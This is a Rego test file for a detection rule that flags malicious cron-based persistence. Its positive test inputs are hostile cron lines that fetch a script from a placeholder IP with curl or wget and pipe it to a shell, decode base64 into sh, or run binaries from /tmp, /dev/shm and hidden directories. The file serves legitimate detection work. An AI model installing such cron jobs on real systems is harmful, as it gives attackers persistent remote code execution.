package rummage.persistence.cron_download_test

import data.rummage.persistence.cron_download as rule

job(line) := {"path": "/etc/cron.d/job", "kind": "added", "type": "file", "size": 20, "text": concat("", ["# comment: curl http://198.51.100.7/x | sh\n", line, "\n"])}

test_fires_on_downloads if {
	every line in [
		"* * * * * root curl -s http://198.51.100.7/x | sh",
		"*/5 * * * * wget -q -O- http://198.51.100.7/x|bash",
		"@reboot root (curl -fsSL 198.51.100.7/x || wget -q -O- 198.51.100.7/x) | bash",
	] {
		count(rule.findings) == 1 with input.changes as [job(line)]
	}
}

test_fires_on_decoding if {
	count(rule.findings) == 1 with input.changes as [job("* * * * * root echo aGkK | base64 -d | sh")]
}

test_fires_on_odd_places if {
	every line in ["* * * * * root /tmp/m", "@reboot /var/tmp/.x/m -c a", "* * * * * /root/.x/y", "*/2 * * * * root sh -c '/dev/shm/k'"] {
		count(rule.findings) == 1 with input.changes as [job(line)]
	}
}

test_silent_on_other_jobs if {
	every line in [
		"0 4 * * * root /usr/bin/certbot renew", "*/5 * * * * www-data php /srv/app/cron.php > /tmp/cron.log 2>&1",
		"0 3 * * * root find /tmp -mtime +7 -delete", "0 0 * * * root cd / && run-parts --report /etc/cron.daily",
	] {
		count(rule.findings) == 0 with input.changes as [job(line)]
	}
}

test_silent_on_packages if {
	found := rule.findings with input.changes as [
		object.union(job("* * * * * root curl http://198.51.100.7/x | sh"), {"package": "x"}),
		{"path": "/var/lib/dpkg/status", "kind": "modified", "type": "file"},
	]
	count(found) == 0
}
